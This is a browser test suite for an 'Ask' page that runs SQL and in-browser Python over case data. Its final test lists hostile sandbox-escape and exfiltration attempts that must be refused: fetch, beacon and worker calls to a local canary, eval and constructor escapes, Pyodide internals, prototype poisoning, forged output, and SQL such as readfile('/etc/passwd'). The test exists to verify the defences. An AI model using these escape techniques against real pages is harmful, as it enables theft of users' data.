"""Ask: questions in SQL and Python, over http and from a folder, the network off; and what hostile code can't do."""

import json
import zipfile
from contextlib import contextmanager

import pytest
from playwright.sync_api import expect

from launching import wait_for_python
from page_steps import SLOW, checked_sample, choose_files, download, drop, place
from tools.places import ROOT

MEGABYTES = 8  # that the page says pandas has


def type_question(page, text):
    """Put the text in the editor in place of what stands there."""
    page.locator(".cm-content").click()
    page.keyboard.press("Control+a")
    page.keyboard.insert_text(text)


def to_ask(page):
    place(page, "Ask")
    expect(page.locator(".cm-content")).to_be_visible(timeout=SLOW)
    expect(page.locator(".ask-tabs details").first).to_be_visible(timeout=SLOW)


def language(page, name):
    button = page.get_by_role("group", name="Language").get_by_role("button", name=name)
    button.click()
    expect(button).to_have_attribute("aria-pressed", "true")


@contextmanager
def one_question(page):
    """What is done here asks one question; waits until it has ended, one way or the other."""
    ended = int(page.locator(".ask-run").get_attribute("data-done"))
    yield
    expect(page.locator(f".ask-run[data-done='{ended + 1}']")).to_have_count(1, timeout=2 * SLOW)


def ask(page, text):
    with one_question(page):
        type_question(page, text)
        page.keyboard.press("Control+Enter")


def value_is(page, text):
    expect(page.locator(".ask-value")).to_have_text(text)
    expect(page.locator(".ask-fault")).to_have_count(0)


def stopped_with(page, sentence):
    expect(page.locator(".ask-fault h2")).to_contain_text(sentence)


def wheel(folder, name="c9words", version="1.0"):
    """A package of pure Python as a wheel in that folder, of one module with a word in it."""
    path = folder / f"{name}-{version}-py3-none-any.whl"
    info = f"{name}-{version}.dist-info"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{name}.py", "def word():\n    return 'from the package'\n")
        archive.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        archive.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        archive.writestr(f"{info}/RECORD", f"{name}.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n")
    return path


# The minute that a question may take is cut short for the tests by the page's own clock, where they say so.
SHORT_MINUTE = """{
    const real = setTimeout;
    globalThis.setTimeout = (call, wait, ...more) =>
        real(call, wait === 60000 && document.documentElement.dataset.short ? 2000 : wait, ...more);
}"""


@pytest.mark.timeout(600)  # a minute by itself; more with others at work
def test_questions_in_sql_and_python(page, address, axe, tmp_path):
    loaded = []
    page.on("request", lambda request: loaded.append(request.url.rsplit("/", 1)[-1]))
    page.add_init_script(SHORT_MINUTE)
    page.context.set_offline(address.startswith("file:"))
    page.goto(address)
    wait_for_python(page)
    kept = {
        "format": "check903 questions",
        "questions": [{"title": "Kept", "language": "sql", "code": "SELECT 7 AS k"}],
    }
    choose_files(page, ("Check 903 questions.json", json.dumps(kept)))
    expect(page.locator(".kept-line")).to_contain_text("1 saved question for Ask. Nothing of them has run.")
    checked_sample(page)
    assert {"ask.js", "pandas.js"} & set(loaded) == set()
    to_ask(page)
    assert axe(page) == []
    sql(page, axe)
    assert {"ask.js", "pandas.js"} & set(loaded) == {"ask.js"}
    python(page)
    assert {"ask.js", "pandas.js"} <= set(loaded)
    packages_and_memory(page, tmp_path)
    limits(page)


def sql(page, axe):
    with one_question(page):
        page.get_by_role("button", name="Missing over 24 hours, by placement type").click()
        page.get_by_role("button", name="Run", exact=True).click()
    expect(page.locator(".ask-table tbody tr").nth(2)).to_be_visible()
    rows = page.locator(".ask-table tbody tr").count()
    page.get_by_role("button", name="Bar", exact=True).click()
    expect(page.locator(".ask-chart rect")).to_have_count(rows)
    assert axe(page) == []
    name, data = download(page, "Download the picture")
    assert name.endswith(".png") and data.startswith(b"\x89PNG")
    assert download(page, "Download CSV")[1].decode("utf-8-sig").startswith("placement,times,children,mean_days")

    ask(page, "SELECT CHILD,\n GENDER FROM Header")
    stopped_with(page, "Line 2: the table Header has no column GENDER")
    expect(page.locator(".cm-line.c9-fault")).to_contain_text("GENDER")
    expect(page.get_by_role("heading", name="Result of")).to_be_visible()
    with one_question(page):
        page.get_by_role("button", name="Change it to SEX and run").click()
    expect(page.locator(".ask-fault")).to_have_count(0)
    page.get_by_role("columnheader").get_by_role("button", name="SEX").click()
    expect(page.locator(".ask-table th[aria-sort=ascending]")).to_contain_text("SEX")
    child = page.locator(".ask-table .child-id").first.inner_text()
    page.get_by_label("Find in the result").fill(child)
    expect(page.locator(".ask-table tbody tr")).to_have_count(1)

    page.locator(".ask-tabs summary").filter(has=page.get_by_text("Header", exact=True)).click()
    type_question(page, "SELECT count(*) AS n, max(")
    page.locator(".ask-tabs details[open] button", has_text="DOB").first.click()
    with one_question(page):
        page.keyboard.insert_text(") AS d FROM Header WHERE SEX = 'M'")
        page.keyboard.press("Control+Enter")
    expect(page.locator(".ask-table thead")).to_contain_text("n")


def python(page):
    """pandas from the page; a question is kept, and the file that was dropped on Files is there."""
    language(page, "Python")
    ask(page, "print('<b>x</b>')\nplot(Episodes.groupby('LS').size())")
    expect(page.locator(".printed")).to_have_text("<b>x</b>\n")
    expect(page.locator(".ask-chart rect").nth(2)).to_be_visible()
    page.get_by_role("button", name="Save", exact=True).click()
    page.get_by_label("Name of the question").fill("By legal status")
    _, data = download(page, "Save")
    saved = json.loads(data)["questions"]
    assert [one["title"] for one in saved] == ["Kept", "By legal status"]
    assert (saved[1]["language"], saved[1]["code"].startswith("print(")) == ("python", True)
    page.locator("#question").select_option("Kept")
    expect(page.locator(".cm-content")).to_contain_text("SELECT 7 AS k")
    with one_question(page):
        page.get_by_role("button", name="Run", exact=True).click()
    expect(page.locator(".ask-table td")).to_have_text("7")


def packages_and_memory(page, tmp_path):
    """A package of the user's own is imported, and again in the next Python, after one that memory ran out in."""
    drop(page, wheel(tmp_path), on=".editor")
    expect(page.get_by_text("c9words-1.0-py3-none-any.whl is installed.")).to_be_attached(timeout=2 * SLOW)
    language(page, "Python")
    ask(page, "import c9words\nc9words.word()")
    value_is(page, "from the package")
    ask(page, "x = []\nwhile True: x.append(bytearray(100_000_000))")
    stopped_with(page, "There was not enough memory for this question")
    ask(page, "import c9words\nc9words.word() + ' again'")
    value_is(page, "from the package again")
    built_for_one = tmp_path / "fast-1.0-cp314-cp314-win_amd64.whl"
    built_for_one.write_bytes(b"PK")
    drop(page, built_for_one, on=".editor")
    stopped_with(page, "is not pure Python")


ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT sum(x) FROM n"


def limits(page):
    """The minute and Stop each end one Python; the next question has another."""
    root = page.locator("html")
    language(page, "SQL")
    ask(page, "DELETE FROM Episodes; SELECT count(*) AS n FROM Episodes")
    expect(page.locator(".ask-table td")).to_have_text("0")
    root.evaluate("(html) => { html.dataset.short = 'yes'; }")
    ask(page, ENDLESS)
    root.evaluate("(html) => { delete html.dataset.short; }")
    stopped_with(page, "The question was stopped after a minute. Your tables are as they were.")
    with one_question(page):
        type_question(page, ENDLESS)
        page.keyboard.press("Control+Enter")
        page.get_by_role("button", name="Stop", exact=True).click(timeout=2 * SLOW)
    stopped_with(page, "Stopped. Your tables are as they were.")
    expect(page.locator("html[data-python=ready]")).to_have_count(1)
    ask(page, "SELECT count(*) > 100 AS n FROM Episodes")
    expect(page.locator(".ask-table td")).to_have_text("1")


def test_the_page_says_how_large_pandas_is(site):
    size = (site / "assets" / "pandas.js").stat().st_size
    assert round(size / 1e6) == MEGABYTES
    assert f"pandas, {MEGABYTES} MB, from this page" in (ROOT / "js" / "app" / "asking.js").read_text(encoding="utf-8")


# What a stranger's code might try: each gets URL, and names what it would use to send, to store, to open another window
# or worker, or to speak to the page unasked.
HOSTILE = """
import js; js.fetch(URL)
import js; x = js.XMLHttpRequest.new(); x.open('GET', URL, False); x.send()
import js; js.WebSocket.new(URL.replace('http', 'ws'))
import js; js.EventSource.new(URL)
import js; js.navigator.sendBeacon(URL, 'x')
import js; js.Worker.new(URL)
import js; js.SharedWorker.new(URL)
import js; js.importScripts(URL)
import js; js.postMessage('x')
import js; js.self.postMessage('x')
import js; js.globalThis.postMessage('x')
import js; js.BroadcastChannel.new('x').postMessage('x')
import js; js.localStorage.setItem('stolen', 'x')
import js; js.indexedDB.open('stolen')
import js; js.caches.open('stolen')
import js; js.navigator.storage.getDirectory()
import js; js.location.assign(URL)
import js; js.open(URL)
import js; js.eval(f"fetch('{URL}')")
import js; js.Function.new(f"fetch('{URL}')")()
import js; js.setTimeout.constructor(f"fetch('{URL}')")()
import js; js.setTimeout(f"fetch('{URL}')", 0)
import sys; sys.modules['js'].fetch(URL)
import _pyodide_core; _pyodide_core.js.fetch(URL)
import pyodide.http, asyncio; asyncio.ensure_future(pyodide.http.pyfetch(URL))
import pyodide.http; pyodide.http.open_url(URL)
import pyodide.http; pyodide.http.pyxhr.get(URL)
import urllib.request; urllib.request.urlopen(URL, timeout=2)
import socket; socket.create_connection(('127.0.0.1', PORT), timeout=2)
import pyodide.code; pyodide.code.run_js(f"fetch('{URL}')")
import pyodide.code; pyodide.code.run_js(f"import('{URL}')")
import pyodide.code; pyodide.code.run_js("import('data:text/javascript,postMessage(1)')")
import pyodide_js, asyncio; asyncio.ensure_future(pyodide_js.loadPackage(URL))
import micropip, asyncio; asyncio.ensure_future(micropip.install(URL + '/x-1.0-py3-none-any.whl'))
import pyodide_js; pyodide_js._module.readAsync(URL)
import pyodide_js; pyodide_js._module.IDBFS.indexedDB().open('stolen')
import pyodide_js; pyodide_js._module.IDBFS.getDB('stolen', lambda *_: None)
import pyodide_js; m = pyodide_js._module; m._emscripten_run_script(m.stringToNewUTF8(f"fetch('{URL}')"))
import pyodide_js; m = pyodide_js._module; m.Browser.asyncPrepareData(URL)
import pyodide_js; pyodide_js.registerJsModule.constructor(f"importScripts('{URL}')")()
import pyodide_js; pyodide_js._api.lockFilePromise.constructor.constructor(f"fetch('{URL}')")()
import pyodide_js; pyodide_js._api.loadBinaryFile(URL)
import gc; [one.fetch(URL) for one in gc.get_objects() if type(one).__name__ == 'JsProxy']
""".strip().splitlines()
# This ends its Python.
FATAL = """import ctypes; ctypes.CDLL(None).emscripten_run_script(f"fetch('{URL}')".encode())"""
# What is put in the place of what all objects share, so that a later answer is another than what was found.
POISON = """
from pyodide.ffi import create_proxy
import pyodide_js
promise = pyodide_js._api.lockFilePromise.constructor
shared = pyodide_js.FS.constructor
def set_to(owner, name):
    try:
        setattr(owner, name, create_proxy(lambda *given: '{}'))
    except BaseException as refused:
        print(name)
for owner, name in ((promise.prototype, 'then'), (shared.prototype, 'toJSON'), (promise, 'resolve')):
    set_to(owner, name)
"""
# Every later question of this Python is answered with what the page takes from nobody.
FORGED = """
import check903.ask.asker as a
real = a.Asker.ask
a.Asker.ask = lambda *given: real(*given) if 'ctypes' in given[2] else {'kind': 'table', 'html': '<img src=x>'}
1"""
# What is looked for on the global itself, as code that got so far would find it.
GONE = (
    "postMessage fetch XMLHttpRequest WebSocket EventSource WebTransport Worker SharedWorker BroadcastChannel importScripts"
    " indexedDB caches MessageChannel MessagePort RTCPeerConnection webkitRequestFileSystem close loadPyodide FontFace fonts"
    " trustedTypes Notification"
).split()
# None of this can be done there, by code that got so far.
REFUSED = [
    "new Function('1')()",
    "eval('1')",
    "navigator.storage.getDirectory()",
    "navigator.locks.request('x', () => 1)",
    "Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).navigator.storage.getDirectory()",
    "'use strict'; globalThis.fetch = 1",
    "'use strict'; delete globalThis.navigator",
    "'use strict'; Promise.prototype.then = 1",
    "'use strict'; Object.prototype.toJSON = 1",
]
HOSTILE_SQL = {
    "ATTACH '/stolen' AS x": "a question can’t do that",
    "SELECT load_extension('x')": "a question can’t do that",
    "COMMIT": "a question can’t do that",
    "PRAGMA writable_schema = 1": "a question can’t do that",
    "SELECT readfile('/etc/passwd')": "SQL has no function readfile",
}
STORED = """async () => ({
    local: localStorage.length, session: sessionStorage.length, cookies: document.cookie,
    databases: (await indexedDB.databases()).map((one) => one.name),
    caches: self.caches && isSecureContext ? (await caches.keys()).filter((one) => !one.startsWith("check903-")) : [],
})"""


@pytest.mark.timeout(600)  # as above
@pytest.mark.expects_errors
def test_hostile_code_can_send_nothing_store_nothing_and_say_nothing_unasked(opened, canary):
    page = opened
    page.context.set_offline(False)  # the page must refuse, not the network
    asked = []
    page.context.on("request", lambda request: asked.append(request.url))
    checked_sample(page)
    to_ask(page)
    language(page, "Python")
    ask(page, "1")
    value_is(page, "1")
    before, stored, windows = len(asked), page.evaluate(STORED), len(page.context.pages)
    ask(page, tries(canary.port, HOSTILE))
    value_is(page, f"{len(HOSTILE)} tried")
    ask(page, "'alive'")
    value_is(page, "alive")
    looked_at_from_the_global(page.workers[-1])

    language(page, "SQL")
    for code, sentence in HOSTILE_SQL.items():
        ask(page, code)
        stopped_with(page, sentence)

    language(page, "Python")
    ask(page, f"import js\nstr([name for name in {GONE} if hasattr(js, name)])")
    value_is(page, "[]")
    ask(page, POISON + "'poisoned'")
    value_is(page, "poisoned")
    ask(page, FORGED)
    value_is(page, "1")
    ask(page, "2")
    stopped_with(page, "can’t show safely")
    ask(page, tries(canary.port, [FATAL]))
    stopped_with(page, "The question ended its Python")
    expect(page.locator("html[data-python=ready]")).to_have_count(1)
    page.wait_for_timeout(1000)
    assert (canary.heard, canary.bare) == ([], 0)
    assert [url for url in asked[before:] if not url.startswith(("blob:", "data:"))] == []
    assert (page.evaluate(STORED), len(page.context.pages)) == (stored, windows)


def tries(port, codes):
    """One question that tries them all, each with an address of its own."""
    base = f"http://127.0.0.1:{port}/"
    lines = [f"PORT = {port}", f"tries = {codes!r}"]
    return "\n".join(lines) + (
        "\nfor number, code in enumerate(tries):\n"
        "    try:\n"
        f"        exec('\\n'.join(code.split('; ')), {{'URL': f'{base}{{number}}', 'PORT': PORT}})\n"
        "    except BaseException:\n"
        "        pass\n"
        "f'{len(tries)} tried'"
    )


def looked_at_from_the_global(worker):
    left = f"{json.dumps(GONE)}.filter((name) => globalThis[name] !== undefined)"
    assert worker.evaluate(left) == []
    assert worker.evaluate("Object.keys(navigator)") == ["userAgent", "language", "platform"]
    for code in REFUSED:  # in a timer: what the debugger runs itself may do more than a script
        tried = f"(() => {{ {code}; }})(); done('done');"
        answer = f"new Promise((done) => setTimeout(() => {{ try {{ {tried} }} catch {{ done('refused'); }} }}))"
        assert worker.evaluate(answer) == "refused", code
